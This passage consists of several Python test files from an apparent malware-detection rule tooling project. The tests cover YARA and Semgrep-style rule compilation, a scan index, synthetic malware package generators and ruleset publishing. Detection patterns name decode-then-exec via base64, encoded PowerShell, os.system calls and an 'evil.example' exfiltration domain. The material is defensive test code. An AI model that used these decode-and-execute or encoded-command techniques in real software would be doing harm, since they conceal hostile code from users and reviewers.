    ruleset = compile_yaml(yaml_text)
    findings = ruleset.match_target(target())
    assert {f.rule_id for f in findings} == {"detect-exfil"}
    assert findings[0].line > 0


def test_compile_and_match_patterns_all_of():
    yaml_text = """
rules:
  - id: detect-decode-exec
    languages: [python]
    message: decode then exec
    patterns:
      - pattern: exec(base64.b64decode($X))
      - pattern: import base64
"""
    ruleset = compile_yaml(yaml_text)
    assert ruleset.match_target(target())


def test_pattern_not_suppresses_file():
    yaml_text = """
rules:
  - id: detect-open
    languages: [python]
    message: open use
    pattern: open($P)
    pattern-not: exec(base64.b64decode($X))
"""
    ruleset = compile_yaml(yaml_text)
    assert not ruleset.match_target(target())


def test_pattern_regex_matching():
    yaml_text = """
rules:
  - id: detect-evil-domain
    languages: [python]
    message: evil domain
    pattern-regex: evil\\.example
"""
    assert compile_yaml(yaml_text).match_target(target())


def test_try_compile_reports_errors():
    ruleset, error = try_compile("rules:\n  - id: x\n    message: m\n    languages: [python]\n")
    assert ruleset is None and "must define one of" in error
    ruleset, error = try_compile("rules:\n  - id: x\n    message: m\n    languages: [python]\n    pattern: 'def f(:'\n")
    assert ruleset is None and "not valid Python syntax" in error


def test_scan_target_skips_unparseable_files():
    scan = ScanTarget.from_files("demo", [("bad.py", "def broken(:")])
    assert scan.files[0].parse_failed
    ruleset = compile_yaml("""
rules:
  - id: anything
    languages: [python]
    message: m
    pattern: os.system($C)
""")
    assert ruleset.match_target(scan) == []


def test_scan_target_from_package(malware_packages):
    scan = ScanTarget.from_package(malware_packages[0])
    assert scan.parsed_files
    assert scan.text
