"""Matcher edge cases that feed the scanserve prefilter index.

The index assumes specific matcher semantics (empty strings rejected at
compile time, ``nocase`` folding, non-overlapping ``finditer`` occurrences
but overlapping *atom* hits); these tests pin those behaviours down, plus a
property test that indexed scanning is identical to naive scanning.
"""

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.scanserve import RuleIndex
from repro.yarax import YaraCompilationError, YaraError, compile_source
from repro.yarax.serializer import YaraRuleBuilder

_slow = settings(max_examples=40, suppress_health_check=[HealthCheck.too_slow], deadline=None)


class TestEmptyStrings:
    def test_empty_text_string_is_a_compile_error(self):
        with pytest.raises(YaraCompilationError, match="empty value"):
            compile_source('rule r { strings: $a = "" condition: $a }')

    def test_empty_regex_source_is_rejected(self):
        with pytest.raises(YaraError):
            compile_source("rule r { strings: $a = // condition: $a }")

    def test_empty_regex_definition_is_a_compile_error(self):
        from repro.yarax import ast_nodes as ast
        from repro.yarax.matcher import CompiledString

        definition = ast.StringDef(identifier="$a", kind=ast.REGEX, value="")
        with pytest.raises(YaraCompilationError, match="empty regular expression"):
            CompiledString(definition, "r")


class TestNocase:
    def test_nocase_matches_any_casing(self):
        ruleset = compile_source(
            'rule r { strings: $a = "PowerShell" nocase condition: $a }'
        )
        for haystack in ("powershell -enc", "POWERSHELL", "PoWeRsHeLl"):
            assert ruleset.match(haystack), haystack
        assert not ruleset.match("power shell")

    def test_case_sensitive_without_nocase(self):
        ruleset = compile_source('rule r { strings: $a = "PowerShell" condition: $a }')
        assert ruleset.match("PowerShell")
        assert not ruleset.match("powershell")

    def test_nocase_rule_is_indexed_and_parity_holds(self):
        ruleset = compile_source(
            'rule r { strings: $a = "PowerShell" nocase condition: $a }'
        )
        index = RuleIndex(yara=ruleset)
        assert index.stats().yara_indexed == 1
        for haystack in ("powershell", "POWERSHELL", "PowerShell", "nothing here"):
            naive = [m.rule_name for m in ruleset.match(haystack)]
            indexed = [m.rule_name for m in index.match_yara(haystack)]
            assert naive == indexed, haystack

    def test_case_sensitive_rule_prefilter_is_only_a_prefilter(self):
        """The index is case-insensitive; the full evaluation is not."""
        ruleset = compile_source('rule r { strings: $a = "Secret" condition: $a }')
        index = RuleIndex(yara=ruleset)
        # 'secret' makes the rule a candidate but full evaluation rejects it
        assert index.candidate_yara_rules("secret stuff")
        assert index.match_yara("secret stuff") == []
        assert [m.rule_name for m in index.match_yara("Secret stuff")] == ["r"]


class TestOverlappingMatches:
    def test_occurrences_are_non_overlapping(self):
        """finditer semantics: 'aaaa' contains two non-overlapping 'aa'."""
        ruleset = compile_source('rule r { strings: $a = "aa" condition: #a == 2 }')
        assert ruleset.match("aaaa")
        assert not ruleset.match("aaa")  # second 'aa' would overlap

    def test_overlapping_strings_all_fire(self):
        ruleset = compile_source(
            "rule r { strings: "
            '$a = "she" $b = "he" $c = "hers" '
            "condition: all of them }"
        )
        matches = ruleset.match("ushers")
        assert matches and matches[0].matched_identifiers == {"$a", "$b", "$c"}

    def test_overlapping_strings_parity_with_index(self):
        ruleset = compile_source(
            "rule overlap { strings: "
            '$a = "she" $b = "he" $c = "hers" '
            "condition: all of them }"
        )
        index = RuleIndex(yara=ruleset, min_atom_length=2)
        naive = ruleset.match("ushers")
        indexed = index.match_yara("ushers")
        assert [m.matched_identifiers for m in naive] == [
            m.matched_identifiers for m in indexed
        ]

    def test_count_of_overlapping_occurrences(self):
        ruleset = compile_source('rule r { strings: $a = "aba" condition: #a >= 2 }')
        # 'ababa' holds two overlapping 'aba' but finditer reports one
        assert not ruleset.match("ababa")
        assert ruleset.match("abaaba")


class TestFullwordAndModifierCombos:
    def test_fullword_boundaries(self):
        ruleset = compile_source(
            'rule r { strings: $a = "eval" fullword condition: $a }'
        )
        assert ruleset.match("x = eval(y)")
        assert not ruleset.match("medieval times")

    def test_nocase_fullword_combination(self):
        ruleset = compile_source(
            'rule r { strings: $a = "eval" nocase fullword condition: $a }'
        )
        assert ruleset.match("EVAL(x)")
        assert not ruleset.match("primEVAL(x)")


@_slow
@given(
    st.lists(
        st.text(
            alphabet=st.characters(min_codepoint=32, max_codepoint=126),
            min_size=1,
            max_size=10,
        ).filter(lambda s: s.strip()),
        min_size=1,
        max_size=4,
    ),
    st.booleans(),
    st.text(max_size=200),
)
def test_property_indexed_scan_identical_to_naive(values, nocase, haystack):
    """Indexed and naive scanning agree on arbitrary rules and haystacks."""
    builder = YaraRuleBuilder("prop_rule")
    for value in values:
        builder.text_string(value, nocase=nocase)
    builder.condition_any_of_them()
    ruleset = compile_source(builder.to_source())
    index = RuleIndex(yara=ruleset)
    naive = ruleset.match(haystack)
    indexed = index.match_yara(haystack)
    assert [(m.rule_name, sorted(m.matched_identifiers)) for m in naive] == [
        (m.rule_name, sorted(m.matched_identifiers)) for m in indexed
    ]
