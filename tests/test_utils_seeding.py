"""Tests for repro.utils.seeding."""

import pytest

from repro.utils.seeding import DeterministicRandom, derive_seed


def test_derive_seed_deterministic():
    assert derive_seed(42, "a", "b") == derive_seed(42, "a", "b")


def test_derive_seed_scope_sensitivity():
    assert derive_seed(42, "a") != derive_seed(42, "b")
    assert derive_seed(42, "a") != derive_seed(43, "a")


def test_same_scope_reproduces_stream():
    a = DeterministicRandom(7, "corpus")
    b = DeterministicRandom(7, "corpus")
    assert [a.randint(0, 100) for _ in range(10)] == [b.randint(0, 100) for _ in range(10)]


def test_different_scope_decorrelates_stream():
    a = DeterministicRandom(7, "corpus")
    b = DeterministicRandom(7, "llm")
    assert [a.randint(0, 1000) for _ in range(10)] != [b.randint(0, 1000) for _ in range(10)]


def test_choice_raises_on_empty_sequence():
    rng = DeterministicRandom(1, "x")
    with pytest.raises(ValueError):
        rng.choice([])


def test_coin_edge_probabilities():
    rng = DeterministicRandom(1, "x")
    assert rng.coin(0.0) is False
    assert rng.coin(1.0) is True


def test_coin_probability_roughly_respected():
    rng = DeterministicRandom(3, "coin")
    hits = sum(rng.coin(0.25) for _ in range(2000))
    assert 350 < hits < 650


def test_sample_never_exceeds_population():
    rng = DeterministicRandom(1, "sample")
    assert len(rng.sample([1, 2, 3], 10)) == 3


def test_shuffle_returns_copy_and_preserves_elements():
    rng = DeterministicRandom(1, "shuffle")
    original = [1, 2, 3, 4, 5]
    shuffled = rng.shuffle(original)
    assert original == [1, 2, 3, 4, 5]
    assert sorted(shuffled) == original


def test_weighted_choice_validates_lengths():
    rng = DeterministicRandom(1, "w")
    with pytest.raises(ValueError):
        rng.weighted_choice([1, 2], [1.0])


def test_weighted_choice_prefers_heavy_weight():
    rng = DeterministicRandom(5, "w")
    picks = [rng.weighted_choice(["a", "b"], [0.01, 100.0]) for _ in range(50)]
    assert picks.count("b") > 45


def test_child_stream_is_deterministic():
    parent = DeterministicRandom(9, "parent")
    assert parent.child("x").randint(0, 10**6) == DeterministicRandom(9, "parent").child("x").randint(0, 10**6)
