"""Tests for the malware and benign package generators."""

import ast

from repro.corpus.benign_generator import BenignGenerator, BenignGeneratorConfig
from repro.corpus.malware_generator import MalwareGenerator, MalwareGeneratorConfig
from repro.corpus.package import BENIGN, MALWARE


def small_malware(count=24, **overrides):
    config = MalwareGeneratorConfig(package_count=count, seed=77, **overrides)
    return MalwareGenerator(config).generate()


def small_benign(count=6):
    config = BenignGeneratorConfig(package_count=count, seed=78,
                                   modules_range=(4, 6), pieces_per_module_range=(8, 12))
    return BenignGenerator(config).generate()


def test_malware_generator_respects_package_count():
    packages = small_malware(24)
    assert len(packages) == 24
    assert all(pkg.label == MALWARE for pkg in packages)


def test_malware_generator_is_deterministic():
    a = small_malware(16)
    b = small_malware(16)
    assert [p.identifier for p in a] == [p.identifier for p in b]
    assert [p.signature for p in a] == [p.signature for p in b]


def test_malware_packages_have_setup_and_payload():
    for pkg in small_malware(12):
        assert pkg.file("setup.py") is not None
        assert pkg.file("PKG-INFO") is not None
        assert any(path.endswith("core.py") for path in pkg.iter_paths())


def test_malware_packages_carry_behavior_labels():
    packages = small_malware(20)
    assert all(pkg.behaviors for pkg in packages)
    assert all(pkg.family for pkg in packages)


def test_malware_duplicate_fraction_produces_duplicates():
    packages = small_malware(30, duplicate_fraction=0.5)
    signatures = {}
    for pkg in packages:
        signatures.setdefault(pkg.signature, 0)
    # at least some signatures repeat through re-uploads
    from repro.corpus.dedup import deduplicate
    result = deduplicate(packages)
    assert result.duplicates, "expected duplicate re-uploads in the corpus"


def test_family_members_share_behaviors():
    packages = small_malware(30)
    by_family = {}
    for pkg in packages:
        by_family.setdefault(pkg.family, []).append(pkg)
    multi = [members for members in by_family.values() if len(members) >= 2]
    assert multi
    for members in multi:
        behaviors = {tuple(sorted(pkg.behaviors)) for pkg in members}
        assert len(behaviors) == 1


def test_obfuscated_families_hide_plain_indicators():
    packages = small_malware(40, obfuscation_probability=1.0, evasive_family_probability=0.0)
    for pkg in packages:
        core = next(f for f in pkg.files if f.path.endswith("core.py"))
        assert "base64.b64decode(_blob)" in core.content


def test_generated_python_parses(subtests=None):
    for pkg in small_malware(10, obfuscation_probability=0.0):
        for source in pkg.source_files:
            ast.parse(source.content)


def test_benign_generator_counts_and_labels():
    packages = small_benign(5)
    assert len(packages) == 5
    assert all(pkg.label == BENIGN for pkg in packages)


def test_benign_packages_are_larger_than_malware():
    benign = small_benign(4)
    malware = small_malware(12)
    avg_benign = sum(p.loc for p in benign) / len(benign)
    avg_malware = sum(p.loc for p in malware) / len(malware)
    assert avg_benign > avg_malware


def test_benign_metadata_is_complete():
    for pkg in small_benign(4):
        assert pkg.metadata.author
        assert pkg.metadata.description
        assert pkg.metadata.classifiers


def test_benign_source_parses():
    for pkg in small_benign(3):
        for source in pkg.source_files:
            ast.parse(source.content)


def test_benign_generator_deterministic():
    a = small_benign(3)
    b = small_benign(3)
    assert [p.signature for p in a] == [p.signature for p in b]
