"""Sharded generation fleets: shard plans, merge/stack publish semantics,
the registry event bus and the scan service's live re-scan."""

import pytest

from repro.api import (
    BehaviorShardPlan,
    ClusterShardPlan,
    GenerationOrchestrator,
    GeneratedRule,
    GeneratedRuleSet,
    PresetGroupsStage,
    RoundRobinShardPlan,
    RuleLLMConfig,
    RulesetRegistry,
    ScanService,
    ScanServiceConfig,
    StageContext,
    merge_shard_rulesets,
)
from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.extraction.embedding import CodeEmbedder
from repro.llm.simulated import SimulatedAnalystLLM
from repro.scanserve.registry import PublishEvent
from repro.yarax import compile_source


def _pkg(name: str, content: str, family: str | None = None) -> Package:
    return Package(
        name=name,
        version="1.0",
        metadata=PackageMetadata(name=name),
        files=[PackageFile(path=f"{name}.py", content=content)],
        label="malware",
        family=family,
    )


def _yara_rule(name: str, needle: str, cluster_id: int = 0) -> GeneratedRule:
    return GeneratedRule(
        format="yara",
        name=name,
        text=f'rule {name} {{ strings: $a = "{needle}" condition: $a }}',
        cluster_id=cluster_id,
    )


def _ruleset(*rules: GeneratedRule) -> GeneratedRuleSet:
    rule_set = GeneratedRuleSet(model="test")
    for rule in rules:
        rule_set.add(rule)
    return rule_set


def _texts(rule_set) -> list[tuple[str, str, str]]:
    return [(r.format, r.name, r.text) for r in rule_set.rules]


# -- shard plans --------------------------------------------------------------------


class TestShardPlans:
    config = RuleLLMConfig.full()

    def test_round_robin_deals_everything_out(self, malware_packages):
        shards = RoundRobinShardPlan(3).partition(
            list(malware_packages), self.config, CodeEmbedder()
        )
        assert 1 <= len(shards) <= 3
        dealt = [p for shard in shards for p in shard.packages]
        assert sorted(p.identifier for p in dealt) == sorted(
            p.identifier for p in malware_packages
        )
        again = RoundRobinShardPlan(3).partition(
            list(malware_packages), self.config, CodeEmbedder()
        )
        assert [s.label for s in again] == [s.label for s in shards]

    def test_round_robin_rejects_bad_count(self):
        with pytest.raises(ValueError):
            RoundRobinShardPlan(0)

    def test_behavior_plan_keeps_families_whole(self):
        packages = [
            _pkg("a1", "x", family="alpha"),
            _pkg("a2", "x", family="alpha"),
            _pkg("b1", "x", family="beta"),
            _pkg("c1", "x", family="gamma"),
        ]
        shards = BehaviorShardPlan().partition(packages, self.config, CodeEmbedder())
        assert len(shards) == 3  # one shard per family
        by_family = {shard.label: {p.name for p in shard.packages} for shard in shards}
        assert by_family["alpha"] == {"a1", "a2"}

    def test_behavior_plan_caps_and_balances(self):
        packages = [
            _pkg(f"{family}{i}", "x", family=family)
            for family in ("alpha", "beta", "gamma", "delta")
            for i in range(2)
        ]
        shards = BehaviorShardPlan(max_shards=2).partition(
            packages, self.config, CodeEmbedder()
        )
        assert len(shards) == 2
        assert sum(len(shard) for shard in shards) == len(packages)
        # families are never split across shards
        for shard in shards:
            for family in {p.family for p in shard.packages}:
                owners = [s for s in shards if family in {p.family for p in s.packages}]
                assert owners == [shard]

    def test_cluster_plan_deals_whole_clusters_with_global_ids(
        self, malware_packages
    ):
        shards = ClusterShardPlan(3).partition(
            list(malware_packages), self.config, CodeEmbedder()
        )
        assert shards, "expected at least one shard"
        seen_ids: set[int] = set()
        for shard in shards:
            assert shard.stages is not None
            preset = shard.stages[0]
            assert isinstance(preset, PresetGroupsStage)
            group_ids = {cluster_id for cluster_id, _ in preset.groups}
            assert not (group_ids & seen_ids), "cluster split across shards"
            seen_ids |= group_ids
            # the shard's package list is exactly its clusters' members
            assert [p.identifier for p in shard.packages] == [
                p.identifier
                for _, members in sorted(preset.groups, key=lambda g: g[0])
                for p in members
            ]


# -- merge semantics ----------------------------------------------------------------


class TestMergeShardRulesets:
    def test_true_duplicates_are_deduplicated(self):
        rule = _yara_rule("shared", "needle", cluster_id=1)
        merged, provenance = merge_shard_rulesets(
            [("s1", _ruleset(rule)), ("s2", _ruleset(rule))]
        )
        assert len(merged.rules) == 1
        assert provenance[1].deduplicated == 1
        assert provenance[1].rules == []

    def test_same_rule_in_different_clusters_is_kept(self):
        merged, _ = merge_shard_rulesets(
            [
                ("s1", _ruleset(_yara_rule("shared", "needle", cluster_id=1))),
                ("s2", _ruleset(_yara_rule("shared", "needle", cluster_id=2))),
            ]
        )
        # a single session keeps both too (compilers dedupe names positionally)
        assert len(merged.rules) == 2
        assert len(merged.compile_yara().rules) == 2

    def test_name_collisions_are_renamed_not_dropped(self):
        merged, provenance = merge_shard_rulesets(
            [
                ("s1", _ruleset(_yara_rule("dup", "needle_one"))),
                ("s-2", _ruleset(_yara_rule("dup", "needle_two"))),
            ]
        )
        names = [rule.name for rule in merged.rules]
        assert "dup" in names and "dup__s_2" in names
        renamed = next(rule for rule in merged.rules if rule.name == "dup__s_2")
        assert "rule dup__s_2" in renamed.text  # identifier rewritten in source
        assert provenance[1].renamed == ["dup__s_2"]
        compiled = merged.compile_yara()
        assert sorted(r.name for r in compiled.rules) == ["dup", "dup__s_2"]

    def test_merged_order_is_cluster_then_format(self):
        merged, _ = merge_shard_rulesets(
            [
                ("s1", _ruleset(_yara_rule("late", "aaa", cluster_id=5))),
                ("s2", _ruleset(_yara_rule("early", "bbb", cluster_id=1))),
            ]
        )
        assert [rule.name for rule in merged.rules] == ["early", "late"]


# -- registry fleet publishes -------------------------------------------------------


class TestRegistryFleetPublish:
    def test_publish_merged_records_provenance(self):
        registry = RulesetRegistry()
        version = registry.publish_merged(
            [
                ("s1", _ruleset(_yara_rule("r1", "needle_one", 0))),
                ("s2", _ruleset(_yara_rule("r2", "needle_two", 1))),
            ],
            label="fleet",
        )
        assert version.rule_count == 2
        assert [p.shard for p in version.provenance] == ["s1", "s2"]
        assert registry.current_version() == version.version
        assert "2 shards" in version.describe()

    def test_publish_merged_requires_rules(self):
        registry = RulesetRegistry()
        with pytest.raises(ValueError):
            registry.publish_merged([])
        with pytest.raises(ValueError):
            registry.publish_merged([("s1", _ruleset())])

    def test_publish_stacked_builds_a_parent_chain(self):
        registry = RulesetRegistry()
        base = registry.publish(yara=compile_source(
            'rule base { strings: $a = "base_needle" condition: $a }'
        ))
        layers = registry.publish_stacked(
            [
                ("s1", _ruleset(_yara_rule("r1", "needle_one", 0))),
                ("s2", _ruleset(_yara_rule("r2", "needle_two", 1))),
                ("s3", _ruleset(_yara_rule("r3", "needle_three", 2))),
            ],
            label="stack",
            parent=base.version,
        )
        assert [layer.parent for layer in layers] == [
            base.version, layers[0].version, layers[1].version,
        ]
        assert len({layer.stack_id for layer in layers}) == 1
        # layers are cumulative; only the top is live
        assert [layer.rule_count for layer in layers] == [1, 2, 3]
        assert registry.current_version() == layers[-1].version
        assert registry.stack_layers(layers[0].stack_id) == layers
        # peeling one shard off is just activating the parent
        registry.activate(layers[-1].parent)
        assert registry.current().rule_count == 2


# -- event bus ----------------------------------------------------------------------


class TestRegistryEventBus:
    def test_publish_and_activate_events(self):
        registry = RulesetRegistry()
        events: list[PublishEvent] = []
        registry.subscribe(events.append)
        first = registry.publish(yara=compile_source(
            'rule a { strings: $a = "needle_a" condition: $a }'
        ))
        registry.publish(
            yara=compile_source(
                'rule b { strings: $b = "needle_b" condition: $b }'
            ),
            activate=False,
        )
        registry.activate(first.version)  # no-op: already current
        registry.activate(2)

        kinds = [(e.kind, e.activated) for e in events]
        assert kinds == [("publish", True), ("publish", False), ("activate", True)]
        assert events[0].previous_version is None
        assert events[2].previous_version == first.version

    def test_unsubscribe_stops_delivery(self):
        registry = RulesetRegistry()
        events = []
        token = registry.subscribe(events.append)
        assert registry.unsubscribe(token)
        assert not registry.unsubscribe(token)  # idempotent
        registry.publish(yara=compile_source(
            'rule a { strings: $a = "needle_a" condition: $a }'
        ))
        assert events == []

    def test_broken_subscriber_does_not_break_publish(self):
        registry = RulesetRegistry()

        def explode(event):
            raise RuntimeError("subscriber bug")

        seen = []
        registry.subscribe(explode)
        registry.subscribe(seen.append)
        version = registry.publish(yara=compile_source(
            'rule a { strings: $a = "needle_a" condition: $a }'
        ))
        assert version.version == 1
        assert len(seen) == 1  # later subscribers still notified
        assert any("subscriber bug" in err for err in registry.subscriber_errors)


# -- live re-scan -------------------------------------------------------------------


class TestLiveRescan:
    def _service(self, window: int = 8) -> ScanService:
        return ScanService(
            config=ScanServiceConfig(
                mode="inprocess", recency_window=window, live_rescan=True
            )
        )

    def _corpus(self) -> list[Package]:
        return [
            _pkg("alpha", "alpha_token lives here"),
            _pkg("beta", "beta_token lives here"),
            _pkg("clean", "nothing suspicious"),
        ]

    def test_ring_is_bounded_and_most_recent(self):
        service = self._service(window=2)
        service.publish(yara=compile_source(
            'rule r { strings: $a = "alpha_token" condition: $a }'
        ))
        service.scan_batch(self._corpus())
        assert len(service.recency_window) == 2  # oldest fingerprint dropped

    def test_publish_triggers_rescan_with_delta(self):
        service = self._service()
        service.publish(
            yara=compile_source(
                'rule weak { strings: $a = "alpha_token" condition: $a }'
            ),
            label="v1",
        )
        service.scan_batch(self._corpus())
        assert service.last_rescan is None  # nothing new yet

        service.publish(
            yara=compile_source(
                'rule weak2 { strings: $a = "alpha_token" condition: $a }\n'
                'rule fresh { strings: $b = "beta_token" condition: $b }'
            ),
            label="v2",
        )
        delta = service.last_rescan
        assert delta is not None
        assert (delta.from_version, delta.to_version) == (1, 2)
        assert delta.scanned == 3
        assert delta.new == ["beta==1.0"]  # beta_token newly matched
        assert delta.changed == ["alpha==1.0"]  # weak -> weak2
        assert delta.cleared == []
        assert delta.unchanged == 1  # the clean package
        assert delta.has_changes and "re-scan v1 -> v2" in delta.describe()
        assert service.stats.rescans == 1

    def test_rules_dropped_from_the_new_version_clear_detections(self):
        service = self._service()
        service.publish(yara=compile_source(
            'rule weak { strings: $a = "alpha_token" condition: $a }'
        ))
        service.scan_batch(self._corpus())
        service.publish(yara=compile_source(
            'rule other { strings: $a = "beta_token" condition: $a }'
        ))
        delta = service.last_rescan
        assert delta.cleared == ["alpha==1.0"]
        assert delta.new == ["beta==1.0"]

    def test_inactive_publish_does_not_rescan(self):
        service = self._service()
        service.publish(yara=compile_source(
            'rule weak { strings: $a = "alpha_token" condition: $a }'
        ))
        service.scan_batch(self._corpus())
        service.registry.publish(
            yara=compile_source(
                'rule staged { strings: $a = "beta_token" condition: $a }'
            ),
            activate=False,
        )
        assert service.last_rescan is None
        # ... but activating it later re-scans
        service.registry.activate(2)
        assert service.last_rescan is not None
        assert service.last_rescan.to_version == 2

    def test_consecutive_publishes_diff_against_latest(self):
        service = self._service()
        service.publish(yara=compile_source(
            'rule a { strings: $a = "alpha_token" condition: $a }'
        ))
        service.scan_batch(self._corpus())
        service.publish(yara=compile_source(
            'rule a { strings: $a = "alpha_token" condition: $a }\n'
            'rule b { strings: $b = "beta_token" condition: $b }'
        ))
        service.publish(yara=compile_source(
            'rule a { strings: $a = "alpha_token" condition: $a }\n'
            'rule b { strings: $b = "beta_token" condition: $b }\n'
            'rule c { strings: $c = "nothing suspicious" condition: $c }'
        ))
        assert len(service.rescans) == 2
        second = service.rescans[-1]
        assert (second.from_version, second.to_version) == (2, 3)
        assert second.new == ["clean==1.0"]  # only the v3 novelty, not v2's

    def test_rescan_recent_is_noop_when_ring_already_current(self):
        service = self._service()
        service.publish(yara=compile_source(
            'rule a { strings: $a = "alpha_token" condition: $a }'
        ))
        service.scan_batch(self._corpus())
        assert service.rescan_recent() is None

    def test_record_recency_false_keeps_ring_untouched(self):
        service = self._service()
        service.publish(yara=compile_source(
            'rule a { strings: $a = "alpha_token" condition: $a }'
        ))
        service.scan_batch(self._corpus(), record_recency=False)
        assert service.recency_window == []

    def test_live_rescan_without_cache_or_window_is_rejected(self):
        with pytest.raises(ValueError, match="cache"):
            ScanService(
                config=ScanServiceConfig(enable_cache=False, live_rescan=True)
            )
        with pytest.raises(ValueError, match="recency_window"):
            ScanService(
                config=ScanServiceConfig(recency_window=0, live_rescan=True)
            )


# -- the orchestrator ---------------------------------------------------------------


class TestGenerationOrchestrator:
    def test_merged_fleet_matches_single_session_bit_for_bit(
        self, malware_packages, generated_rules, small_dataset, detection_result
    ):
        """The acceptance property: cluster-sharded fleet -> merged publish
        == one monolithic session, down to identical detections."""
        service = ScanService(config=ScanServiceConfig(mode="inprocess"))
        orchestrator = GenerationOrchestrator(
            config=RuleLLMConfig.full(),
            plan=ClusterShardPlan(shards=3),
            registry=service.registry,
            max_workers=3,
        )
        fleet = orchestrator.run(list(malware_packages), publish="merged")
        assert fleet.shard_count >= 2
        assert fleet.published and fleet.version.provenance
        assert _texts(fleet.rule_set) == _texts(generated_rules)

        batch = service.scan_batch(small_dataset.packages)
        assert [
            (d.package, d.yara_rules, d.semgrep_rules) for d in batch.detections
        ] == [
            (d.package, d.yara_rules, d.semgrep_rules)
            for d in detection_result.detections
        ]

    def test_sequential_fallback_matches_threaded(self, malware_packages):
        threaded = GenerationOrchestrator(
            config=RuleLLMConfig.full(), plan=ClusterShardPlan(3), max_workers=3
        ).run(list(malware_packages), publish="none")
        sequential = GenerationOrchestrator(
            config=RuleLLMConfig.full(), plan=ClusterShardPlan(3), max_workers=1
        ).run(list(malware_packages), publish="none")
        assert _texts(sequential.rule_set) == _texts(threaded.rule_set)
        assert sequential.workers == 1 and threaded.workers == 3

    def test_stacked_publish_through_orchestrator(self, malware_packages):
        service = ScanService(config=ScanServiceConfig(mode="inprocess"))
        orchestrator = GenerationOrchestrator(
            config=RuleLLMConfig.full(),
            plan=ClusterShardPlan(2),
            registry=service.registry,
            max_workers=1,
        )
        fleet = orchestrator.run(list(malware_packages), publish="stacked")
        assert fleet.layers and fleet.version is fleet.layers[-1]
        assert service.registry.current_version() == fleet.version.version
        counts = [layer.rule_count for layer in fleet.layers]
        assert counts == sorted(counts)  # layers are cumulative

    def test_publish_none_leaves_registry_untouched(self, malware_packages):
        registry = RulesetRegistry()
        fleet = GenerationOrchestrator(
            config=RuleLLMConfig.full(),
            plan=RoundRobinShardPlan(2),
            registry=registry,
            max_workers=1,
        ).run(list(malware_packages[:6]), publish="none")
        assert fleet.rule_set.rules and fleet.version is None
        assert len(registry) == 0

    def test_rejects_unknown_publish_mode(self, malware_packages):
        orchestrator = GenerationOrchestrator(config=RuleLLMConfig.full())
        with pytest.raises(ValueError):
            orchestrator.run(list(malware_packages[:2]), publish="bogus")

    def test_shard_labels_flow_into_session_results(self, malware_packages):
        fleet = GenerationOrchestrator(
            config=RuleLLMConfig.full(), plan=RoundRobinShardPlan(2), max_workers=1
        ).run(list(malware_packages[:6]), publish="none")
        for run in fleet.shard_runs:
            assert run.result.shard_label == run.label
            assert run.label in run.result.describe()
        assert fleet.describe().startswith("fleet[round-robin]")
        report = fleet.to_dict()
        assert report["shards"] and report["version"] is None


# -- stage plumbing -----------------------------------------------------------------


class TestPresetGroupsStage:
    def test_adopts_groups_verbatim(self, malware_packages):
        groups = [(4, list(malware_packages[:2])), (7, list(malware_packages[2:3]))]
        stage = PresetGroupsStage(groups)
        context = StageContext(
            config=RuleLLMConfig.full(),
            provider=SimulatedAnalystLLM(),
            embedder=CodeEmbedder(),
            packages=list(malware_packages[:3]),
            shard_label="shard-x",
        )
        stage.run(context)
        assert [cluster_id for cluster_id, _ in context.cluster_groups] == [4, 7]
        assert context.info.cluster_count == 2
        assert context.shard_label == "shard-x"
