"""Tests for the consolidated atomic-write helpers (`repro.utils.atomic`)."""

from __future__ import annotations

import os

import pytest

from repro.utils.atomic import (
    atomic_write_bytes,
    atomic_write_text,
    fsync_dir,
    replace_durable,
)


class TestAtomicWriteBytes:
    def test_writes_content(self, tmp_path):
        target = tmp_path / "data.bin"
        atomic_write_bytes(target, b"\x00\x01payload")
        assert target.read_bytes() == b"\x00\x01payload"

    def test_overwrites_atomically(self, tmp_path):
        target = tmp_path / "data.bin"
        target.write_bytes(b"old")
        atomic_write_bytes(target, b"new contents")
        assert target.read_bytes() == b"new contents"

    def test_leaves_no_scratch_files(self, tmp_path):
        target = tmp_path / "data.bin"
        atomic_write_bytes(target, b"x" * 1024)
        atomic_write_bytes(target, b"y" * 1024)
        assert [p.name for p in tmp_path.iterdir()] == ["data.bin"]

    def test_non_durable_still_atomic(self, tmp_path):
        target = tmp_path / "cache.json"
        atomic_write_bytes(target, b"entry", durable=False)
        assert target.read_bytes() == b"entry"
        assert [p.name for p in tmp_path.iterdir()] == ["cache.json"]

    def test_failed_write_preserves_existing_target(self, tmp_path, monkeypatch):
        target = tmp_path / "data.bin"
        atomic_write_bytes(target, b"survivor")

        real_replace = os.replace

        def failing_replace(src, dst):
            raise OSError("disk on fire")

        monkeypatch.setattr(os, "replace", failing_replace)
        with pytest.raises(OSError):
            atomic_write_bytes(target, b"doomed")
        monkeypatch.setattr(os, "replace", real_replace)
        # the old contents were never touched: rename is the commit point
        assert target.read_bytes() == b"survivor"


class TestAtomicWriteText:
    def test_round_trips_text(self, tmp_path):
        target = tmp_path / "note.txt"
        atomic_write_text(target, "héllo wörld\n")
        assert target.read_text(encoding="utf-8") == "héllo wörld\n"

    def test_respects_encoding(self, tmp_path):
        target = tmp_path / "latin.txt"
        atomic_write_text(target, "café", encoding="latin-1")
        assert target.read_bytes() == b"caf\xe9"


class TestDurabilityPlumbing:
    def test_fsync_dir_returns_true_on_real_directory(self, tmp_path):
        assert fsync_dir(tmp_path) is True

    def test_fsync_dir_tolerates_missing_directory(self, tmp_path):
        assert fsync_dir(tmp_path / "nope") is False

    def test_replace_durable_moves_and_survives(self, tmp_path):
        scratch = tmp_path / "scratch.tmp"
        scratch.write_bytes(b"promoted")
        target = tmp_path / "final.bin"
        replace_durable(scratch, target)
        assert target.read_bytes() == b"promoted"
        assert not scratch.exists()

    def test_durable_write_fsyncs_file_before_rename(self, tmp_path, monkeypatch):
        order: list[str] = []
        real_fsync = os.fsync
        real_replace = os.replace

        def spy_fsync(fd):
            order.append("fsync")
            return real_fsync(fd)

        def spy_replace(src, dst):
            order.append("replace")
            return real_replace(src, dst)

        monkeypatch.setattr(os, "fsync", spy_fsync)
        monkeypatch.setattr(os, "replace", spy_replace)
        atomic_write_bytes(tmp_path / "f.bin", b"data")
        # file contents must be on disk before the rename publishes them,
        # and the directory entry must be synced after
        assert order == ["fsync", "replace", "fsync"]

    def test_non_durable_write_skips_fsync(self, tmp_path, monkeypatch):
        calls: list[int] = []
        real_fsync = os.fsync

        def spy_fsync(fd):
            calls.append(fd)
            return real_fsync(fd)

        monkeypatch.setattr(os, "fsync", spy_fsync)
